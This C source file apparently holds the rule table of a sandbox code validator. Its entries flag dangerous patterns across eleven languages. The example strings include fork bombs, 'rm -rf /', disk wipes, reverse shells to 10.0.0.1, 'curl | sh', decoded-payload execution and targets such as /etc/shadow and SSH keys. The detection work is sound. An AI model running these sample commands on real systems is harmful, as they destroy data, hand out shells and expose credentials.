/*
 * The table of what stands out in code.
 *
 * Rows of one language stand together, the gravest first: of one rule the graver is told, and the others are not.
 */
#include "agent/runner/validate.h"

#define NOTE  FINDING_NOTE
#define WARN  FINDING_WARN
#define GRAVE FINDING_GRAVE

#define DECODED "runs code that it decodes first"
#define TEXT    "runs text as code"
#define BOMB    "starts processes without end"
#define ALL     "removes all files"
#define SHELL   "has a shell run commands"
#define STARTS  "starts other programs"
#define NATIVE  "calls functions outside of the language, which nothing checks"
#define SYSCALL "makes system calls by itself"
#define NETWORK "uses a network, and a sandbox has none unless it is asked for"
#define LOADS   "loads data that may bring code with it"
#define FORK    "starts further processes"

const struct finding_rule finding_rules[] = {
	{"python", "decoded-code", GRAVE, "% exec|eval ( *** b64decode|a85decode|b85decode|unhexlify|fromhex|decompress", DECODED,
         "exec(base64.b64decode(text))"},
	{"python", "fork-bomb", GRAVE, "while True|1 : os . fork (", BOMB, "while True:\n    os.fork()"},
	{"python", "remove-all", GRAVE, "shutil . rmtree ( '/'", ALL, "shutil.rmtree('/')"},
	{"python", "shell", WARN, "os . system|popen (", SHELL, "os.system('ls')"},
	{"python", "shell", WARN, "shell = True", SHELL, "subprocess.run(line, shell=True)"},
	{"python", "programs", NOTE, "subprocess . run|call|Popen|check_output|check_call|getoutput (", STARTS, "subprocess.run(['ls'])"},
	{"python", "programs", NOTE, "os . execv|execve|execvp|execl|execlp|spawnv|spawnl|posix_spawn (", STARTS,
         "os.execv('/bin/ls', ['ls'])"},
	{"python", "code-from-text", WARN, "% eval|exec (", TEXT, "eval(text)"},
	{"python", "code-from-text", WARN, "__import__ (", TEXT, "__import__(name)"},
	{"python", "native", WARN, "import|from ctypes|cffi", NATIVE, "import ctypes"},
	{"python", "kill-all", WARN, "os . kill ( - 1", "sends a signal to all processes", "os.kill(-1, 9)"},
	{"python", "fork", NOTE, "os . fork|forkpty (", FORK, "pid = os.fork()"},
	{"python", "loads", NOTE, "pickle|marshal|dill . load|loads (", LOADS, "pickle.loads(data)"},
	{"python", "network", NOTE, "import|from socket|requests|httpx|aiohttp|urllib3", NETWORK, "import requests"},
	{"python", "network", NOTE, "import|from urllib . request", NETWORK, "import urllib.request"},

	{"javascript", "decoded-code", GRAVE, "% eval|Function ( *** atob|Buffer|fromCharCode|unescape", DECODED, "eval(atob(text))"},
	{"javascript", "fork-bomb", GRAVE, "while ( true|1 ) *** fork|spawn|exec (", BOMB, "while (true) { fork(__filename) }"},
	{"javascript", "remove-all", GRAVE, "rm|rmSync|rmdir|rmdirSync ( '/'", ALL, "fs.rmSync('/', {recursive: true})"},
	{"javascript", "programs", WARN, "require|import ( \"child_process\"", STARTS, "const c = require('child_process')"},
	{"javascript", "programs", WARN, "from \"child_process\"", STARTS, "import {exec} from 'node:child_process'"},
	{"javascript", "code-from-text", WARN, "% eval (", TEXT, "eval(text)"},
	{"javascript", "code-from-text", WARN, "new Function (", TEXT, "const f = new Function('return 1')"},
	{"javascript", "native", WARN, "process . dlopen|binding|_linkedBinding (", NATIVE, "process.binding('fs')"},
	{"javascript", "kill-all", WARN, "process . kill ( - 1", "sends a signal to all processes", "process.kill(-1)"},
	{"javascript", "network", NOTE, "% fetch (", NETWORK, "const r = await fetch(url)"},
	{"javascript", "network", NOTE, "require|import ( 'net'", NETWORK, "const net = require('net')"},
	{"javascript", "network", NOTE, "require|import ( \"http\"", NETWORK, "const h = require('node:https')"},
	{"javascript", "network", NOTE, "from \"http\"", NETWORK, "import http from 'http'"},

	{"bash", "fork-bomb", GRAVE, "@ ( ) { @ | @ &", BOMB, ":(){ :|:& };:"},
	{"bash", "remove-all", GRAVE, "rm ... ~-*[rR]* ... ~/", ALL, "rm -rf /"},
	{"bash", "remove-all", GRAVE, "rm ... ~-*[rR]* ... ~/[*]", ALL, "rm -fr /*"},
	{"bash", "remove-all", GRAVE, "rm ... --no-preserve-root", ALL, "rm -f -r --no-preserve-root /x"},
	{"bash", "decoded-code", GRAVE, "base64 ~-*[dD]* ... | ~*sh", DECODED, "echo bHM= | base64 -d | sh"},
	{"bash", "decoded-code", GRAVE, "base64 ~-*[dD]* ... | ~python*", DECODED, "base64 --decode x | python3"},
	{"bash", "decoded-code", GRAVE, "eval ... $ ( ... base64", DECODED, "eval $(echo bHM= | base64 -d)"},
	{"bash", "decoded-code", GRAVE, "eval ... \"base64\"", DECODED, "eval \"$(base64 -d <x)\""},
	{"bash", "overwrites-disk", GRAVE, "dd ... ~of=/dev/[!nsz]*", "writes over a disk", "dd if=/dev/zero of=/dev/vda"},
	{"bash", "overwrites-disk", GRAVE, "> ~/dev/[hsv]d*", "writes over a disk", "cat x > /dev/sda"},
	{"bash", "overwrites-disk", GRAVE, "^ ~mkfs*", "writes over a disk", "mkfs.ext4 /dev/vda1"},
	{"bash", "reverse-shell", GRAVE, "> & ~/dev/tcp/*", "gives a shell to somebody else", "bash -i >& /dev/tcp/10.0.0.1/99 0>&1"},
	{"bash", "reverse-shell", GRAVE, "nc|ncat|netcat ... ~-*[ec]", "gives a shell to somebody else", "nc 10.0.0.1 99 -e /bin/sh"},
	{"bash", "fetched-code", WARN, "curl|wget ... | ~*sh", "runs what it fetched", "curl https://example.org/x | sh"},
	{"bash", "code-from-text", WARN, "^ eval", TEXT, "eval $line"},
	{"bash", "opens-all", WARN, "chmod ... ~*777 ... ~/", "lets all change all files", "chmod -R 777 /"},
	{"bash", "kill-all", WARN, "kill ... ~-9 ... ~-1", "sends a signal to all processes", "kill -9 -1"},
	{"bash", "privilege", NOTE, "^ sudo|su|doas|mount|umount|insmod|modprobe|nsenter|chroot|unshare",
         "takes privilege, of which a sandbox has none", "sudo apt-get update"},
	{"bash", "network", NOTE, "^ curl|wget|ssh|scp|nc|ncat|ping", NETWORK, "curl https://example.org"},

	{"go", "remove-all", GRAVE, "os . RemoveAll ( '/'", ALL, "package main\nfunc main() { os.RemoveAll(\"/\") }"},
	{"go", "fork-bomb", GRAVE, "for { exec . Command (", BOMB, "for { exec.Command(\"x\").Start() }"},
	{"go", "native", WARN, "^ import 'C'", NATIVE, "import \"C\""},
	{"go", "native", WARN, "^ import 'unsafe'", NATIVE, "import \"unsafe\""},
	{"go", "native", WARN, "unsafe . Pointer", NATIVE, "p := unsafe.Pointer(&x)"},
	{"go", "syscall", WARN, "syscall|unix . RawSyscall|Syscall|Syscall6|RawSyscall6|ForkExec (", SYSCALL,
         "syscall.Syscall(1, 2, 3, 4)"},
	{"go", "programs", WARN, "exec . Command|CommandContext (", STARTS, "exec.Command(\"ls\").Run()"},
	{"go", "network", NOTE, "net . Dial|Listen|DialTimeout|ListenPacket (", NETWORK, "net.Dial(\"tcp\", a)"},
	{"go", "network", NOTE, "http . Get|Post|Client|ListenAndServe|NewRequest", NETWORK, "http.Get(url)"},

	{"rust", "remove-all", GRAVE, "remove_dir_all ( '/'", ALL, "std::fs::remove_dir_all(\"/\");"},
	{"rust", "fork-bomb", GRAVE, "loop { *** Command : : new (", BOMB, "loop { Command::new(\"x\").spawn(); }"},
	{"rust", "syscall", GRAVE, "asm ! ( *** \"syscall\"", SYSCALL, "asm!(\"syscall\", in(\"rax\") 1)"},
	{"rust", "native", WARN, "asm|global_asm ! (", NATIVE, "asm!(\"nop\")"},
	{"rust", "native", WARN, "extern 'C'", NATIVE, "extern \"C\" { fn getpid() -> i32; }"},
	{"rust", "native", WARN, "libc : :", NATIVE, "libc::getpid()"},
	{"rust", "unsafe", WARN, "unsafe {|fn|impl|trait|extern", "is not checked by the compiler", "unsafe { *p = 1; }"},
	{"rust", "unsafe", WARN, "mem : : transmute", "is not checked by the compiler", "std::mem::transmute(x)"},
	{"rust", "programs", NOTE, "Command : : new (", STARTS, "Command::new(\"ls\")"},
	{"rust", "network", NOTE, "TcpStream|TcpListener|UdpSocket : : connect|bind (", NETWORK, "TcpStream::connect(a)"},

	{"c", "fork-bomb", GRAVE, "while ( 1|true ) ... fork ( )", BOMB, "while (1) fork();"},
	{"c", "fork-bomb", GRAVE, "for ( ; ; ) *** fork ( )", BOMB, "for (;;)\n\tfork();"},
	{"c", "fork-bomb", GRAVE, "while ( 1|true ) { fork ( )", BOMB, "while (true) {\n\tfork();\n}"},
	{"c", "syscall", GRAVE, "asm|__asm__|__asm *** \"syscall\"", SYSCALL, "asm volatile(\"syscall\");"},
	{"c", "syscall", GRAVE, "asm|__asm__|__asm *** \"int $0x80\"", SYSCALL, "__asm__(\"int $0x80\");"},
	{"c", "syscall", WARN, "% syscall (", SYSCALL, "x = syscall(39);"},
	{"c", "assembly", WARN, "asm|__asm__|__asm", "is written in assembly", "asm(\"nop\");"},
	{"c", "shell", WARN, "% system|popen (", SHELL, "system(\"ls\");"},
	{"c", "debugs", WARN, "% ptrace|process_vm_readv|process_vm_writev (", "looks into other processes", "r = ptrace(0, 0, 0, 0);"},
	{"c", "makes-code", WARN, "mmap|mprotect ( *** PROT_EXEC", "makes code while it runs", "mprotect(p, n, PROT_READ | PROT_EXEC);"},
	{"c", "overflow", WARN, "% gets (", "cannot be used safely", "gets(line);"},
	{"c", "programs", NOTE, "% execve|execv|execvp|execl|execlp|execle|posix_spawn (", STARTS, "execv(path, argv);"},
	{"c", "fork", NOTE, "% fork|vfork|clone (", FORK, "pid = fork();"},
	{"c", "native", NOTE, "% dlopen (", "loads further libraries", "h = dlopen(\"x.so\", 1);"},
	{"c", "network", NOTE, "% socket (", NETWORK, "s = socket(AF_INET, SOCK_STREAM, 0);"},

	{"java", "programs", WARN, "Runtime . getRuntime ( ) . exec (", STARTS, "Runtime.getRuntime().exec(\"ls\");"},
	{"java", "programs", WARN, "new ProcessBuilder (", STARTS, "new ProcessBuilder(\"ls\").start();"},
	{"java", "fork-bomb", GRAVE, "while ( true ) *** ProcessBuilder|exec (", BOMB,
         "while (true) { new ProcessBuilder(\"x\").start(); }"},
	{"java", "native", WARN, "System . load|loadLibrary (", NATIVE, "System.loadLibrary(\"x\");"},
	{"java", "native", WARN, "sun . misc . Unsafe", NATIVE, "import sun.misc.Unsafe;"},
	{"java", "code-from-text", WARN, "defineClass (", TEXT, "c = defineClass(name, b, 0, n);"},
	{"java", "loads", NOTE, "new ObjectInputStream (", LOADS, "new ObjectInputStream(in);"},
	{"java", "network", NOTE, "new Socket|ServerSocket|DatagramSocket|URL (", NETWORK, "new Socket(host, 80);"},
	{"java", "network", NOTE, "HttpClient . newHttpClient|newBuilder (", NETWORK, "HttpClient.newHttpClient();"},

	{"ruby", "decoded-code", GRAVE, "% eval *** decode64|strict_decode64|unpack|unpack1", DECODED, "eval(Base64.decode64(text))"},
	{"ruby", "fork-bomb", GRAVE, "loop|while|until ... fork", BOMB, "loop { fork }"},
	{"ruby", "remove-all", GRAVE, "FileUtils . rm_rf|rm_r|remove_dir ... '/'", ALL, "FileUtils.rm_rf('/')"},
	{"ruby", "shell", WARN, "% system|exec|spawn (", SHELL, "system('ls')"},
	{"ruby", "shell", WARN, "^ system|exec|spawn \"\"", SHELL, "exec 'ls'"},
	{"ruby", "shell", WARN, "IO . popen", SHELL, "IO.popen('ls')"},
	{"ruby", "code-from-text", WARN, "% eval|instance_eval|class_eval (", TEXT, "eval(text)"},
	{"ruby", "native", WARN, "require \"fiddle\"", NATIVE, "require 'fiddle'"},
	{"ruby", "fork", NOTE, "% fork", FORK, "pid = fork"},
	{"ruby", "loads", NOTE, "Marshal . load", LOADS, "Marshal.load(data)"},
	{"ruby", "network", NOTE, "require 'socket'", NETWORK, "require 'socket'"},
	{"ruby", "network", NOTE, "require \"net/\"", NETWORK, "require 'net/http'"},

	{"perl", "decoded-code", GRAVE, "% eval ... decode_base64|unpack|pack", DECODED, "eval(decode_base64($x));"},
	{"perl", "fork-bomb", GRAVE, "fork while fork|1", BOMB, "fork while fork;"},
	{"perl", "fork-bomb", GRAVE, "while ( 1 ) { fork", BOMB, "while (1) { fork; }"},
	{"perl", "remove-all", GRAVE, "rmtree|remove_tree ( '/'", ALL, "rmtree('/');"},
	{"perl", "shell", WARN, "% system|exec (", SHELL, "system('ls');"},
	{"perl", "shell", WARN, "^ system|exec \"\"", SHELL, "exec 'ls';"},
	{"perl", "code-from-text", WARN, "% eval $|(", TEXT, "eval $text;"},
	{"perl", "code-from-text", WARN, "% eval \"\"", TEXT, "eval 'print 1';"},
	{"perl", "syscall", WARN, "% syscall (", SYSCALL, "syscall(39);"},
	{"perl", "native", WARN, "use Inline|FFI", NATIVE, "use Inline C => 1;"},
	{"perl", "fork", NOTE, "% fork", FORK, "my $pid = fork;"},
	{"perl", "network", NOTE, "use Socket|LWP", NETWORK, "use Socket;"},
	{"perl", "network", NOTE, "use IO|HTTP|Net : :", NETWORK, "use IO::Socket;"},

	{"php", "decoded-code", GRAVE, "% eval|assert ( *** base64_decode|gzinflate|gzuncompress|str_rot13|hex2bin", DECODED,
         "eval(base64_decode($x));"},
	{"php", "fork-bomb", GRAVE, "while ( true|1 ) *** pcntl_fork (", BOMB, "while (true) pcntl_fork();"},
	{"php", "shell", WARN, "% system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec (", SHELL, "system('ls');"},
	{"php", "code-from-text", WARN, "% eval|create_function (", TEXT, "eval($text);"},
	{"php", "native", WARN, "FFI : :", NATIVE, "$f = FFI::cdef('int getpid();');"},
	{"php", "fetched-code", WARN, "include|require|include_once|require_once ... \"://\"", "runs what it fetched",
         "include 'http://example.org/x';"},
	{"php", "fork", NOTE, "% pcntl_fork (", FORK, "$p = pcntl_fork();"},
	{"php", "loads", NOTE, "% unserialize (", LOADS, "unserialize($data);"},
	{"php", "network", NOTE, "% fsockopen|stream_socket_client|curl_init|socket_create (", NETWORK, "$c = curl_init($url);"},

	{"lua", "decoded-code", GRAVE, "% load|loadstring ( ... decode|unbase64|char|fromhex (", DECODED, "load(string.char(112))()"},
	{"lua", "fork-bomb", GRAVE, "while true do *** os . execute (", BOMB, "while true do os.execute('x &') end"},
	{"lua", "shell", WARN, "os . execute (", SHELL, "os.execute('ls')"},
	{"lua", "shell", WARN, "io . popen (", SHELL, "io.popen('ls')"},
	{"lua", "code-from-text", WARN, "% load|loadstring (", TEXT, "load(text)()"},
	{"lua", "native", WARN, "package . loadlib (", NATIVE, "package.loadlib('x.so', 'f')"},
	{"lua", "native", WARN, "require ... 'ffi'", NATIVE, "local f = require('ffi')"},
	{"lua", "network", NOTE, "require ... \"socket\"", NETWORK, "local s = require 'socket'"},

	{NULL, "container", GRAVE, "\"docker.sock\"", "wants to steer the host's containers", "\"/var/run/docker.sock\""},
	{NULL, "secrets", WARN, "\"/etc/shadow\"", "wants passwords of the system", "\"/etc/shadow\""},
	{NULL, "secrets", WARN, "\"169.254.169.254\"", "wants what a cloud tells its machines", "\"http://169.254.169.254/latest\""},
	{NULL, "secrets", WARN, "\".ssh/id_\"", "wants keys of a user", "\"/home/a/.ssh/id_rsa\""},
	{NULL, "mining", GRAVE, "\"stratum+tcp://\"", "mines coins", "\"stratum+tcp://pool.example.org\""},
	{.pattern = NULL},
};
